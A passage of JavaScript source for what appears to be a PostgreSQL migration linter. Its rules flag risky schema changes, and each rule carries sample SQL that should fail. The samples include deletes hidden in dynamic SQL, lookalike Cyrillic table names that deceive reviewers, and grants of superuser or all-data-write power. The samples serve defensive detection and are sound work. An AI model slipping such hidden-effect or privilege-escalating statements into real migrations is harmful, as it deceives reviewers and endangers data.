		level: "low",
		message: `The name ${long} is cut to ${long.slice(0, 63)}.`
	}],
	valid: [`create table ${long.slice(0, 63)} (id bigint)`, `select '${long}'`],
	check: ({ scripts }) => scripts.flatMap((script) => {
		return marksOf(script, namesIn(script.source.text).filter(({ name }) => keptName(name) !== name)).map((effect) => ({
			effect,
			place: effect.place,
			level: "low",
			message: `The name ${effect.name} is cut to ${keptName(effect.name)}.`
		}));
	})
});
/** Scripts whose letters pass for letters of another one (Unicode Technical Standard 39). */
const scripts = [
	["Latin", /\p{Script=Latin}/u],
	["Cyrillic", /\p{Script=Cyrillic}/u],
	["Greek", /\p{Script=Greek}/u],
	["Armenian", /\p{Script=Armenian}/u],
	["Cherokee", /\p{Script=Cherokee}/u],
	["Coptic", /\p{Script=Coptic}/u],
	["Lisu", /\p{Script=Lisu}/u]
];
/** The Latin letter that each of these is shown like. */
const likes = {
	а: "a",
	в: "b",
	с: "c",
	ԁ: "d",
	е: "e",
	һ: "h",
	і: "i",
	ј: "j",
	к: "k",
	ӏ: "l",
	м: "m",
	п: "n",
	о: "o",
	р: "p",
	ԛ: "q",
	г: "r",
	ѕ: "s",
	т: "t",
	ц: "u",
	ѵ: "v",
	ԝ: "w",
	х: "x",
	у: "y",
	α: "a",
	ι: "i",
	κ: "k",
	ν: "v",
	ο: "o",
	ρ: "p",
	τ: "t",
	υ: "u",
	χ: "x",
	ո: "n",
	օ: "o",
	ս: "u",
	հ: "h"
};
/** A name as it looks to somebody who expects Latin letters. */
function lookOf(name) {
	return Array.from(name.toLowerCase(), (letter) => likes[letter] ?? letter).join("");
}
/** What is wrong with a name by itself, in words that follow it. */
function trickIn(name) {
	const mixed = scripts.filter(([, pattern]) => pattern.test(name)).map(([script]) => script);
	if (mixed.length > 1) return `mixes ${mixed.join(" and ")} letters`;
	if (name.normalize("NFKC") !== name || /[\p{Default_Ignorable_Code_Point}\p{Co}\p{Cn}\u2800]|(?! )\p{Z}/u.test(name)) return "holds a character that is shown like another one or not at all";
}
const misleadingName = defineRule({
	id: "misleading-name",
	title: "A name looks like another one",
	why: "Reviewers read one name and PostgreSQL another: the change touches something else than they approve.",
	instead: "Write each name in letters of one script, as they are typed on a keyboard.",
	invalid: [
		{
			sql: "create table pаyments (id bigint)",
			level: "high",
			message: "The name pаyments mixes Latin and Cyrillic letters."
		},
		{
			sql: "create table \"users　\" (id bigint)",
			level: "high",
			message: "The name users　 holds a character that is shown like another one or not at all."
		},
		{
			sql: "create table ｕｓｅｒｓ (id bigint)",
			level: "high",
			message: "The name ｕｓｅｒｓ holds a character that is shown like another one or not at all."
		},
		{
			sql: "create table cop (id bigint); create table сор (id bigint)",
			level: "high",
			message: "The name сор looks like cop, which the change names as well."
		}
	],
	valid: [
		"create table заказы (номер bigint, сумма bigint)",
		"create table \"größe\" (id bigint, データ text, 名前 text)",
		"select 'pаyments'"
	],
	check: ({ scripts }) => {
		const suspects = scripts.filter(({ source }) => /[^\u0000-\u007f]/.test(source.text));
		if (suspects.length === 0) return [];
		const plain = new Set(scripts.flatMap(({ source }) => namesIn(source.text).map(({ name }) => name).filter(isAscii)));
		return suspects.flatMap((script) => {
			return marksOf(script, namesIn(script.source.text).flatMap((name) => {
				const problem = isAscii(name.name) ? void 0 : problemOf(name.name, plain);
				return problem === void 0 ? [] : [{
					...name,
					problem
				}];
			})).map((effect) => ({
				effect,
				place: effect.place,
				level: "high",
				message: `The name ${effect.name} ${effect.problem}.`
			}));
		});
	}
});
function problemOf(name, plain) {
	const trick = trickIn(name);
	if (trick !== void 0) return trick;
	const look = lookOf(name);
	return plain.has(look) ? `looks like ${look}, which the change names as well` : void 0;
}
function isAscii(name) {
	return /^[ -~]*$/.test(name);
}
const moneyType = defineRule({
	id: "money-type",
	default: "off",
	title: "A column has the type money",
	why: "The currency and the digits after the point depend on a setting of the server.",
	instead: "Use numeric, and a column for the currency.",
	invalid: [{
		sql: "create table notes (price money)",
		level: "low",
		message: "Column notes.price has the type money."
	}],
	valid: ["create table notes (price numeric(12, 2))"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "money").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} has the type money.`
	}))
});
const plain = /^[a-z_][a-z0-9_]*$/;
const nameStyle = defineRule({
	id: "name-style",
	default: "off",
	title: "A new name has to be quoted",
	why: "Whoever writes it without quotes means another name, because PostgreSQL folds it to lower case.",
	instead: "Use lower-case letters, digits and underscores.",
	invalid: [{
		sql: "create table \"Notes\" (id bigint)",
		level: "low",
		message: "The name Notes has to be quoted."
	}, {
		sql: "alter table users add column \"lastLogin\" date",
		level: "low",
		message: "The name lastLogin has to be quoted."
	}],
	valid: ["create table Notes (Id bigint)", "create table \"notes\" (\"id\" bigint)"],
	check: ({ effects, scripts }) => {
		const objects = ofKind(effects, "creates").filter(({ source }) => source === "static").map((effect) => ({
			effect,
			name: effect.object.part ?? effect.object.name
		}));
		const columns = declarationsOf(scripts, "column").map((effect) => ({
			effect,
			name: effect.column
		}));
		return [...objects, ...columns].filter(({ name }) => name !== "" && !plain.test(name)).map(({ effect, name }) => ({
			effect,
			level: "low",
			message: `The name ${name} has to be quoted.`
		}));
	}
});
/** Parameters that a server refuses to set before this major version. */
const settings$1 = {
	stats_fetch_consistency: 15,
	recursive_worktable_factor: 15,
	createrole_self_grant: 16,
	vacuum_buffer_usage_limit: 16,
	enable_presorted_aggregate: 16,
	transaction_timeout: 17,
	event_triggers: 17,
	vacuum_truncate: 18,
	file_copy_method: 18,
	enable_self_join_elimination: 18,
	enable_distinct_reordering: 18
};
/** From the sections "Migration to Version" and "Changes" of PostgreSQL's release notes, 15 to 18. */
const syntaxClues = [
	clue("MergeStmt", 15, "MERGE"),
	clue("MergeStmt", 17, "MERGE with RETURNING", ({ returningClause }) => returningClause !== void 0),
	clue("MergeWhenClause", 17, "WHEN NOT MATCHED BY SOURCE", ({ matchKind }) => matchKind === "MERGE_WHEN_NOT_MATCHED_BY_SOURCE"),
	clue("IndexStmt", 15, "NULLS NOT DISTINCT", (index) => index.nulls_not_distinct === true),
	clue("Constraint", 15, "NULLS NOT DISTINCT", (constraint) => constraint.nulls_not_distinct === true),
	clue("Constraint", 15, "ON DELETE SET with a list of columns", ({ fk_del_set_cols }) => fk_del_set_cols !== void 0),
	clue("DefElem", 15, "security_invoker", ({ defname }) => defname === "security_invoker"),
	clue("GrantStmt", 15, "GRANT ON PARAMETER", ({ objtype }) => objtype === "OBJECT_PARAMETER_ACL"),
	clue("AlterTableCmd", 15, "SET ACCESS METHOD", ({ subtype }) => subtype === "AT_SetAccessMethod"),
	clue("CopyStmt", 15, "COPY with HEADER MATCH", ({ options }) => headerMatches(options)),
	clue("PublicationObjSpec", 15, "a publication of a schema", ({ pubobjtype }) => (pubobjtype ?? "").startsWith("PUBLICATIONOBJ_TABLES_IN")),
	clue("PublicationObjSpec", 15, "a publication of some rows or columns", ({ pubtable }) => pubtable?.whereClause !== void 0 || pubtable?.columns !== void 0),
	...[
		"JsonObjectConstructor",
		"JsonArrayConstructor",
		"JsonArrayQueryConstructor",
		"JsonObjectAgg",
		"JsonArrayAgg"
	].map((tag) => clue(tag, 16, "the SQL/JSON constructors")),
	clue("JsonIsPredicate", 16, "IS JSON"),
	clue("RangeSubselect", 16, "a subquery in FROM without an alias", ({ alias }) => alias === void 0),
	clue("CreateStatsStmt", 16, "CREATE STATISTICS without a name", ({ defnames }) => defnames === void 0),
	clue("ColumnDef", 16, "STORAGE in CREATE TABLE", ({ storage_name }) => storage_name !== void 0),
	clue("GrantRoleStmt", 16, "GRANT of a role WITH INHERIT or SET", ({ opt }) => hasOption(opt, "inherit", "set")),
	clue("CopyStmt", 16, "COPY with DEFAULT", ({ options }) => hasOption(options, "default")),
	clue("ExplainStmt", 16, "EXPLAIN (GENERIC_PLAN)", ({ options }) => hasOption(options, "generic_plan")),
	clue("VacuumStmt", 16, "VACUUM (BUFFER_USAGE_LIMIT)", ({ options }) => hasOption(options, "buffer_usage_limit")),
	clue("FuncCall", 16, "SYSTEM_USER", (call) => isSqlCall(call, "system_user")),
	...[
		"JsonFuncExpr",
		"JsonParseExpr",
		"JsonScalarExpr",
		"JsonSerializeExpr"
	].map((tag) => clue(tag, 17, "the SQL/JSON query functions")),
	clue("JsonTable", 17, "JSON_TABLE"),
	clue("AlterTableCmd", 17, "SET EXPRESSION", ({ subtype }) => subtype === "AT_SetExpression"),
	clue("AlterTableCmd", 17, "SET ACCESS METHOD DEFAULT", ({ subtype, name }) => subtype === "AT_SetAccessMethod" && name === void 0),
	clue("GrantStmt", 17, "the privilege MAINTAIN", givesMaintain),
	clue("AlterDefaultPrivilegesStmt", 17, "the privilege MAINTAIN", ({ action }) => givesMaintain(action ?? {})),
	clue("CopyStmt", 17, "COPY with ON_ERROR", ({ options }) => hasOption(options, "on_error")),
	clue("CopyStmt", 17, "COPY with LOG_VERBOSITY", ({ options }) => hasOption(options, "log_verbosity")),
	clue("ExplainStmt", 17, "EXPLAIN (MEMORY or SERIALIZE)", ({ options }) => hasOption(options, "memory", "serialize")),
	clue("FuncCall", 17, "AT LOCAL", (call) => isSqlCall(call, "timezone") && (call.args ?? []).length === 1),
	clue("Constraint", 18, "GENERATED … VIRTUAL", ({ generated_kind }) => generated_kind === "v"),
	clue("Constraint", 18, "NOT ENFORCED", isNotEnforced),
	clue("Constraint", 18, "NOT NULL as a constraint of the table", ({ contype, keys }) => contype === "CONSTR_NOTNULL" && keys !== void 0),
	clue("Constraint", 18, "WITHOUT OVERLAPS", ({ without_overlaps }) => without_overlaps === true),
	clue("Constraint", 18, "PERIOD", ({ fk_with_period }) => fk_with_period === true),
	clue("ATAlterConstraint", 18, "ALTER CONSTRAINT with ENFORCED or INHERIT", ({ alterEnforceability, alterInheritability }) => alterEnforceability === true || alterInheritability === true),
	clue("CopyStmt", 18, "COPY with REJECT_LIMIT", ({ options }) => hasOption(options, "reject_limit")),
	clue("VacuumRelation", 18, "VACUUM or ANALYZE ONLY", ({ relation }) => relation?.inh !== true && relation !== void 0),
	clue("CreateForeignTableStmt", 18, "LIKE in CREATE FOREIGN TABLE", ({ base }) => (base?.tableElts ?? []).some((element) => nodeAs(element, "TableLikeClause") !== void 0)),
	clue("InsertStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("UpdateStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("DeleteStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("MergeStmt", 18, "RETURNING WITH", hasReturningOptions),
	...[
		clue("InsertStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("UpdateStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("DeleteStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("MergeStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew)
	].map((oldOrNew) => ({
		...oldOrNew,
		notInBodies: true
	})),
	...Object.entries(settings$1).flatMap(([name, since]) => [
		clue("VariableSetStmt", since, name, (set) => set.name === name),
		clue("AlterRoleSetStmt", since, name, ({ setstmt }) => setstmt?.name === name),
		clue("AlterDatabaseSetStmt", since, name, ({ setstmt }) => setstmt?.name === name),
		clue("AlterSystemStmt", since, name, ({ setstmt }) => setstmt?.name === name)
	])
];
function clue(tag, since, feature, when = () => true) {
	const holds = (node) => {
		const found = nodeAs(node, tag);
		return found !== void 0 && when(found);
	};
	return {
		tag,
		since,
		feature,
		notInBodies: false,
		holds
	};
}
function hasOption(options, ...names) {
	return names.some((name) => optionNamed(options, name) !== void 0);
}
function headerMatches(options) {
	return nodeAs(optionNamed(options, "header")?.arg, "String")?.sval?.toLowerCase() === "match";
}
/** Words that the grammar itself turns into a call. */
function isSqlCall(call, name) {
	return call.funcformat === "COERCE_SQL_SYNTAX" && namesOf(call.funcname).at(-1) === name;
}
function givesMaintain({ privileges }) {
	return nodesAs(privileges, "AccessPriv").some(({ priv_name }) => priv_name === "maintain");
}
function isNotEnforced({ contype, is_enforced }) {
	return (contype === "CONSTR_CHECK" || contype === "CONSTR_FOREIGN") && is_enforced !== true;
}
function hasReturningOptions(statement) {
	return statement.returningClause?.options !== void 0;
}
/** A table or an alias of that name is what the words mean on every version. */
function returnsOldOrNew(statement) {
	return ["old", "new"].some((word) => someNode(statement.returningClause, (node) => startsWith(node, word)) && !someNode(statement, (node) => isNamed(node, word)));
}
function startsWith(node, word) {
	const fields = nodeAs(node, "ColumnRef")?.fields;
	return (fields ?? []).length > 1 && nodeAs(fields?.[0], "String")?.sval === word;
}
function isNamed(node, word) {
	return "aliasname" in node && node.aliasname === word || "relname" in node && node.relname === word;
}
/** What a server of this major version would refuse or read differently. */
function newerSyntax$1(scripts, major) {
	return scripts.flatMap(({ unitId, statements }) => statements.flatMap((statement, index) => statement.kind === "unparsed" ? [] : needsOf(statement).filter(({ since }) => since > major).map((need) => ({
		...need,
		unitId,
		statement: index,
		source: "static"
	}))));
}
function needsOf({ node, text, bodies }) {
	return [
		...needsOfTree(node, () => true),
		...needsOfNumbers(text),
		...bodies.flatMap((body) => needsOfBody(body))
	];
}
function needsOfBody(body) {
	if (body.kind === "opaque") return [];
	return body.parts.flatMap((part) => "node" in part ? [...needsOfTree(part.node, ({ notInBodies }) => !notInBodies), ...needsOfNumbers(part.text)] : []);
}
const cluesByTag = /* @__PURE__ */ new Map();
for (const clue of syntaxClues) cluesByTag.set(clue.tag, [...cluesByTag.get(clue.tag) ?? [], clue]);
function needsOfTree(tree, counts) {
	const needs = [];
	const pending = [tree];
	for (let node = pending.pop(); node !== void 0; node = pending.pop()) {
		const here = node;
		for (const [key, child] of childrenOf(here)) {
			const clues = cluesByTag.get(key) ?? [];
			needs.push(...clues.filter((clue) => counts(clue) && clue.holds(here)));
			pending.push(child);
		}
	}
	return needs;
}
/** The tree holds the value alone. An older server reads `0x1f` as the number 0 named `x1f`. */
function needsOfNumbers(text) {
	return [...tokensOf(text)].some(({ kind, start, end }) => kind === "number" && /^0[xob]|_/i.test(text.slice(start, end))) ? [{
		feature: "a number with 0x, 0o, 0b or an underscore",
		since: 16
	}] : [];
}
const newerSyntax = defineRule({
	id: "newer-syntax",
	title: "The database is too old for this syntax",
	why: "It is read with the grammar of PostgreSQL 18: an older server refuses it, or reads it differently from how it was judged.",
	instead: "Write it in a way that the database’s version knows, or upgrade the database first.",
	invalid: [
		{
			sql: "create unique index concurrently users_email on users (email) nulls not distinct",
			postgres: 14,
			level: "high",
			message: "Uses NULLS NOT DISTINCT, which PostgreSQL 14 does not know: it came with 15."
		},
		{
			sql: "select 0x1f",
			postgres: 15,
			level: "high",
			message: "Uses a number with 0x, 0o, 0b or an underscore, which PostgreSQL 15 does not know: it came with 16."
		},
		{
			sql: "set transaction_timeout = '5s'",
			postgres: 16,
			level: "high",
			message: "Uses transaction_timeout, which PostgreSQL 16 does not know: it came with 17."
		},
		{
			sql: "create table orders (net int, gross int generated always as (net * 2) virtual)",
			postgres: 17,
			level: "high",
			message: "Uses GENERATED … VIRTUAL, which PostgreSQL 17 does not know: it came with 18."
		}
	],
	valid: ["create table orders (net int, gross int generated always as (net * 2) stored)"],
	check: ({ scripts, postgres }) => postgres === void 0 ? [] : newerSyntax$1(scripts, postgres).map((effect) => ({
		effect,
		level: "high",
		message: `Uses ${effect.feature}, which PostgreSQL ${postgres} does not know: it came with ${effect.since}.`
	}))
});
const observedNotPredicted = defineRule({
	id: "observed-not-predicted",
	title: "The rehearsal did something that the text does not say",
	why: "Triggers, cascades, functions or dynamic SQL did it: whoever reads the text does not see it.",
	instead: "Write the effect into the change as a plain statement, or say why it is meant.",
	invalid: [{
		sql: "do $$ begin execute (select 'delete from users' from (values (1)) v); end $$",
		level: "critical",
		message: "Observed, not predicted: delete of 3 rows in table public.users."
	}],
	valid: ["update users set name = 'a' where id = 7"],
	check: ({ effects }) => effects.filter(({ source }) => source === "observed").map((effect) => ({
		effect,
		level: levelOf$1(effect),
		message: `Observed, not predicted: ${describe(effect)}.`,
		destructive: isLoss(effect)
	}))
});
function isLoss(effect) {
	return effect.kind === "drops" || effect.kind === "writes" && effect.verb !== "insert";
}
function levelOf$1(effect) {
	if (isLoss(effect)) return "critical";
	if (effect.kind === "locks" || effect.kind === "rewrites") return "medium";
	return "high";
}
function describe(effect) {
	const name = "object" in effect && effect.object !== void 0 ? objectName(effect.object) : "";
	if (effect.kind === "writes") return `${effect.verb} of ${rowsOf(effect.rows ?? 0)} in ${name}`;
	if (effect.kind === "locks") return `${effect.mode} lock on ${name}`;
	return `${effect.kind} ${name}`;
}
function rowsOf(count) {
	return count === 1 ? "1 row" : `${count} rows`;
}
const opaqueDynamicSql = defineRule({
	id: "opaque-dynamic-sql",
	title: "SQL text is put together while the change runs",
	why: "What it executes is not in the reviewed text and can differ between databases.",
	instead: "Write the statements themselves, one by one.",
	invalid: [{
		sql: "do $$ begin execute (select 'drop table if exists t' || count(*) from users); end $$",
		level: "high",
		message: "Executes SQL that is built at run time: (select 'drop table if exists t' || count(*) from users)"
	}, {
		sql: "select query_to_xml('delete from ' || name, true, true, '') from users",
		level: "high",
		message: "Executes SQL that is built at run time: an argument that is computed"
	}],
	valid: ["do $$ begin update users set name = 'a' where id = 7; end $$", "do $$ begin execute format('create table %I (id int)', 'scratch'); end $$"],
	check: ({ effects }) => ofKind(effects, "executes-dynamic").map((effect) => ({
		effect,
		level: "high",
		message: `Executes SQL that is built at run time: ${effect.text.replace(/^SELECT /, "")}`,
		destructive: /\b(?:drop|delete|truncate|update)\b/i.test(effect.text),
		unknown: true
	}))
});
const settings = /* @__PURE__ */ new Set([
	"standard_conforming_strings",
	"backslash_quote",
	"escape_string_warning",
	"client_encoding",
	"names"
]);
const parseSetting = defineRule({
	id: "parse-setting",
	title: "A setting changes how SQL text is read",
	why: "The server would read the following statements differently from how they were judged.",
	instead: "Leave the setting alone; write strings that need no backslash.",
	invalid: [{
		sql: "set standard_conforming_strings = off",
		level: "critical",
		message: "Sets standard_conforming_strings, which changes how SQL text is read."
	}, {
		sql: "select set_config('client_encoding', 'sjis', false)",
		level: "critical",
		message: "Sets client_encoding, which changes how SQL text is read."
	}],
	valid: ["set lock_timeout = '5s'"],
	check: ({ effects }) => ofKind(effects, "sets").filter(({ setting }) => settings.has(setting)).map((effect) => ({
		effect,
		level: "critical",
		message: `Sets ${effect.setting}, which changes how SQL text is read.`,
		unknown: true,
		denies: true
	}))
});
const policyWithoutRowSecurity = defineRule({
	id: "policy-without-row-security",
	title: "A new table has a policy that nobody obeys",
	why: "Policies do nothing until row security is enabled: everybody who can read the table sees every row.",
	instead: "Enable row level security on the table before its first policy.",
	invalid: [{
		sql: "create table notes (id int); create policy own on notes using (id = 1)",
		level: "medium",
		message: "Creates policy notes.own while row security of the table is off."
	}],
	valid: ["create table notes (id int); alter table notes enable row level security; create policy own on notes using (id = 1)"],
	check: ({ effects }) => {
		const created = /* @__PURE__ */ new Set();
		const enabled = /* @__PURE__ */ new Set();
		return effects.flatMap((effect) => {
			if (effect.kind === "alters" && effect.change === "enable-row-security") enabled.add(tableOf$1(effect.object));
			if (effect.kind !== "creates") return [];
			const { object } = effect;
			if (object.kind === "table" && object.createdHere) created.add(tableOf$1(object));
			const isOpen = created.has(tableOf$1(object)) && !enabled.has(tableOf$1(object));
			if (object.kind !== "policy" || !isOpen) return [];
			return [{
				effect,
				level: "medium",
				message: `Creates ${objectName(object)} while row security of the table is off.`
			}];
		});
	}
});
function tableOf$1({ schema = "", name }) {
	return `${schema}.${name}`;
}
/** Alterations that take a protection away or move power, in words. */
const changes$1 = {
	owner: "Changes the owner of",
	"disable-row-security": "Switches row security off for",
	"no-force-row-security": "Lets the owner bypass row security of",
	"disable-trigger": "Disables triggers:",
	"disable-rule": "Disables a rule:",
	"enable-trigger": "Enables triggers:",
	"instead-rule": "Replaces what a statement does by",
	rule: "Adds to what a statement does by",
	policy: "Opens or changes",
	"security-definer": "Runs with its owner’s rights:",
	"security-label": "Changes the security label of",
	"role-attributes": "Changes the attributes of"
};
const powers = /superuser|createrole|bypassrls|replication|pg_\w+/;
const privilegedChange = defineRule({
	id: "privileged-change",
	title: "Power or protection changes hands",
	why: "Who can read, write or bypass controls is different afterwards, whatever else was reviewed.",
	instead: "Let the owner of the object and the people who guard privileges approve it.",
	invalid: [
		{
			sql: "grant app_owner to app",
			level: "high",
			message: "Grants app_owner to app."
		},
		{
			sql: "grant pg_write_all_data to app",
			level: "critical",
			message: "Grants pg_write_all_data to app."
		},
		{
			sql: "grant select on users to app",
			level: "medium",
			message: "Grants select on table users to app."
		},
		{
			sql: "revoke select on users from app",
			level: "medium",
			message: "Revokes select on table users from app."
		},
		{
			sql: "alter role app superuser",
			level: "critical",
			message: "Changes the attributes of role app: superuser."
		},
		{
			sql: "alter table users owner to app",
			level: "high",
			message: "Changes the owner of table users: app."
		},
		{
			sql: "alter table users disable row level security",
			level: "high",
			message: "Switches row security off for table users."
		},
		{
			sql: "alter table users disable trigger all",
			level: "high",
			message: "Disables triggers: table users."
		}
	],
	valid: ["create table scratch (id int); alter table scratch enable row level security"],
	check: ({ effects }) => [
		...ofKind(effects, "grants").flatMap(granted),
		...ofKind(effects, "revokes").flatMap(revoked),
		...ofKind(effects, "alters").flatMap(altered)
	]
});
function granted(effect) {
	const { object, privileges, to, withGrantOption } = effect;
	if (to.includes("public") || object?.createdHere === true && !withGrantOption) return [];
	const option = withGrantOption ? ", who can grant it on" : "";
	const message = `Grants ${privileges.join(", ")}${onObject(effect)} to ${to.join(", ")}${option}.`;
	const membership = object === void 0;
	return [{
		effect,
		level: membership && powers.test(privileges.join(" ")) ? "critical" : membership || withGrantOption ? "high" : "medium",
		message
	}];
}
function revoked(effect) {
	const { object, privileges, from } = effect;
	if (object?.createdHere === true) return [];
	return [{
		effect,
		level: "medium",
		message: `Revokes ${privileges.join(", ")}${onObject(effect)} from ${from.join(", ")}.`
	}];
}
function onObject({ object }) {
	return object === void 0 ? "" : ` on ${objectName(object)}`;
}
function altered(effect) {
	const { change, object, to } = effect;
	const words = changes$1[change];
	if (words === void 0 || isNewTable(effect)) return [];
	const detail = to === void 0 || to === "" ? "" : `: ${to}`;
	return [{
		effect,
		level: change === "role-attributes" && powers.test(to ?? "") ? "critical" : "high",
		message: `${words} ${objectName(object)}${detail}.`
	}];
}
/** Nobody relies on the protections of a table that this change creates, except on its owner. */
function isNewTable(effect) {
	return effect.kind === "alters" && effect.object.createdHere && effect.change !== "owner" && effect.change !== "security-definer" && effect.change !== "policy";
}
const renameObject = defineRule({
	id: "rename-object",
	title: "An object gets another name or schema",
	why: "Clients that use the old name fail at once, and a later statement may meet another object under it.",
	instead: "Add the new name beside the old one, for example with a view, and move the clients first.",
	invalid: [
		{
			sql: "alter table users rename to people",
			level: "high",
			message: "Renames table users to people."
		},
		{
			sql: "alter table users rename column email to mail",
			level: "high",
			message: "Renames column users.email to mail."
		},
		{
			sql: "alter table users set schema archive",
			level: "high",
			message: "Moves table users to schema archive."
		},
		{
			sql: "alter type priority rename value 'normal' to 'usual'",
			level: "high",
			message: "Renames a value of type priority."
		}
	],
	valid: ["create table scratch (id int); alter table scratch rename to notes"],
	check: ({ effects }) => ofKind(effects, "alters").flatMap((effect) => {
		const { object, change, to } = effect;
		const words = wordsOf$1(change, objectName(object), to ?? "");
		if (object.createdHere || words === void 0) return [];
		return [{
			effect,
			level: "high",
			message: words
		}];
	})
});
function wordsOf$1(change, name, to) {
	switch (change) {
		case "rename": return `Renames ${name} to ${to}.`;
		case "set-schema": return `Moves ${name} to schema ${to}.`;
		case "rename-value": return `Renames a value of ${name}.`;
		default: return;
	}
}
const replaceObject = defineRule({
	id: "replace-object",
	title: "An object may be replaced by another of the same name",
	why: "If it exists, everything that uses it behaves differently from then on.",
	instead: "Use plain CREATE for a new object; when it replaces one, let the owner of its users approve.",
	invalid: [{
		sql: "create or replace view report as select 1",
		level: "medium",
		message: "Creates or replaces view report."
	}, {
		sql: "create or replace function total() returns int language sql as $$ select 1 $$",
		level: "medium",
		message: "Creates or replaces function total."
	}],
	valid: ["create view report as select 1"],
	check: ({ effects }) => ofKind(effects, "creates").filter(({ replaces }) => replaces).map((effect) => ({
		effect,
		level: "medium",
		message: `Creates or replaces ${objectName(effect.object)}.`
	}))
});
const requiredColumn = defineRule({
	id: "required-column",
	title: "A new column must be filled, and nothing fills it",
	why: "It fails if the table holds a row, and clients that do not know the column yet can no longer insert.",
	instead: "Give it a constant default, or add it without NOT NULL, fill it, and require it when every client fills it.",
	invalid: [{
		sql: "alter table users add column tenant bigint not null",
		level: "medium",
		message: "Adds column users.tenant, which must be filled and has no default."
	}],
	valid: [
		"alter table users add column tenant text not null default ''",
		"alter table users add column tenant bigint",
		"create table scratch (id int); alter table scratch add column note text not null"
	],
	check: ({ effects, scripts }) => {
		const required = new Set(declarationsOf(scripts, "column").filter(({ added, notNull, filled }) => added && notNull && !filled).map((column) => `${statementOf(column)} ${column.column}`));
		return ofKind(effects, "alters").filter(({ change, object }) => change === "add-column" && !object.createdHere).filter((effect) => required.has(`${statementOf(effect)} ${effect.object.part ?? ""}`)).map((effect) => ({
			effect,
			level: "medium",
			message: `Adds ${objectName(effect.object)}, which must be filled and has no default.`
		}));
	}
});
const rowSecurityWithoutPolicy = defineRule({
	id: "row-security-without-policy",
	title: "Row security is enabled, and the change brings no policy",
	why: "Unless the table has policies already, everybody but its owner sees no row of it from then on.",
	instead: "Create the policies in the same change, before row security is enabled.",
	invalid: [{
		sql: "alter table orders enable row level security",
		level: "medium",
		message: "Enables row security of table orders without a policy."
	}],
	valid: ["create policy own on orders using (user_id = 1); alter table orders enable row level security", "create table notes (id int); alter table notes enable row level security"],
	check: ({ effects }) => {
		const withPolicy = /* @__PURE__ */ new Set();
		return effects.flatMap((effect) => {
			if (effect.kind === "creates" && effect.object.kind === "policy") withPolicy.add(tableOf(effect.object));
			if (effect.kind !== "alters" || effect.change !== "enable-row-security") return [];
			const { object } = effect;
			if (object.createdHere || withPolicy.has(tableOf(object))) return [];
			return [{
				effect,
				level: "medium",
				message: `Enables row security of ${objectName(object)} without a policy.`
			}];
		});
	}
});
function tableOf({ schema = "", name }) {
	return `${schema}.${name}`;
}
/** What the comments of a text say, without their marks; those inside of code that it carries, too. */
function commentsOf(text) {
	if (!text.includes("--") && !text.includes("/*")) return [];
	return [...codeTokensOf(text)].filter(({ kind }) => kind === "comment").map(({ start, end }) => ({
		index: start,
		text: wordsOf(text.slice(start, end))
	}));
}
function wordsOf(comment) {
	return comment.startsWith("--") ? comment.slice(2) : comment.slice(2, -2);
}
/** How each tool marks parts of a file in comments; what `undoes` marks, every other runner runs as well. */
const directives = [
	{
		tool: "goose",
		mark: /^\+goose\s/i,
		undoes: /^\+goose\s+down\b/i
	},
	{
		tool: "sql-migrate",
		mark: /^\+migrate\s/i,
		undoes: /^\+migrate\s+down\b/i
	},
	{
		tool: "micrate",
		mark: /^\+micrate\s/i,
		undoes: /^\+micrate\s+down\b/i
	},
	{
		tool: "dbmate",
		mark: /^migrate:(?:up|down)\b/i,
		undoes: /^migrate:down\b/i
	},
	{
		tool: "rambler",
		mark: /^rambler\s+(?:up|down)\b/i,
		undoes: /^rambler\s+down\b/i
	},
	{
		tool: "MyBatis",
		mark: /^\/\/\s*@undo\b/i,
		undoes: /^\/\/\s*@undo\b/i
	},
	{
		tool: "Liquibase",
		mark: /^(?:liquibase\s+formatted|changeset\s+\S+:|rollback\s|preconditions?[\s-])/i,
		undoes: /^rollback\s/i
	},
	{
		tool: "node-pg-migrate",
		mark: /^(?:up|down)\s+migration\b/i,
		undoes: /^down\s+migration\b/i
	},
	{
		tool: "Atlas",
		mark: /^atlas:(?!nolint)\w+/i,
		undoes: void 0
	}
];
const mayHold$2 = /\+(?:goose|migrate|micrate)|migrate:|rambler|@undo|liquibase|changeset|rollback|precondition|migration|atlas:/i;
const runnerDirective = defineRule({
	id: "runner-directive",
	title: "A comment steers a migration tool",
	why: "Only that tool knows what the comment means: whatever else runs the file runs the part that undoes the change, too.",
	instead: "Name the tool’s layout in the policy, or keep only what is to run in the file.",
	invalid: [
		{
			sql: "-- +goose Up\nselect 1;\n-- +goose Down\nselect 2",
			level: "high",
			message: "Holds a part that only goose knows not to run: +goose Down."
		},
		{
			sql: "-- migrate:down\nselect 1",
			level: "high",
			message: "Holds a part that only dbmate knows not to run: migrate:down."
		},
		{
			sql: "--liquibase formatted sql\n--changeset ada:1\nselect 1",
			level: "medium",
			message: "Is written for Liquibase: liquibase formatted sql."
		},
		{
			sql: "--//@UNDO\nselect 1",
			level: "high",
			message: "Holds a part that only MyBatis knows not to run: //@UNDO."
		},
		{
			sql: "-- +migrate StatementBegin\nselect 1",
			level: "medium",
			message: "Is written for sql-migrate: +migrate StatementBegin."
		}
	],
	valid: [
		"-- The rollback of this migration: none is needed.\nselect 1",
		"select '-- +goose Down'",
		"-- goose migrations ran here before.\nselect 1"
	],
	check: ({ scripts }) => scripts.filter(({ source }) => mayHold$2.test(source.text)).flatMap((script) => marksOf(script, directivesIn(script.source.text)).map((effect) => ({
		effect,
		place: effect.place,
		level: effect.level,
		message: effect.message
	})))
});
/** One a tool: the first that undoes, else the first. */
function directivesIn(text) {
	const comments = commentsOf(text).map((comment) => ({
		...comment,
		text: comment.text.trim()
	}));
	return directives.flatMap(({ tool, mark, undoes }) => {
		const undoing = comments.find((comment) => undoes?.test(comment.text));
		const first = undoing ?? comments.find((comment) => mark.test(comment.text));
		if (first === void 0) return [];
		const words = first.text.split("\n", 1)[0] ?? "";
		return undoing === void 0 ? [{
			...first,
			level: "medium",
			message: `Is written for ${tool}: ${words}.`
		}] : [{
			...first,
			level: "high",
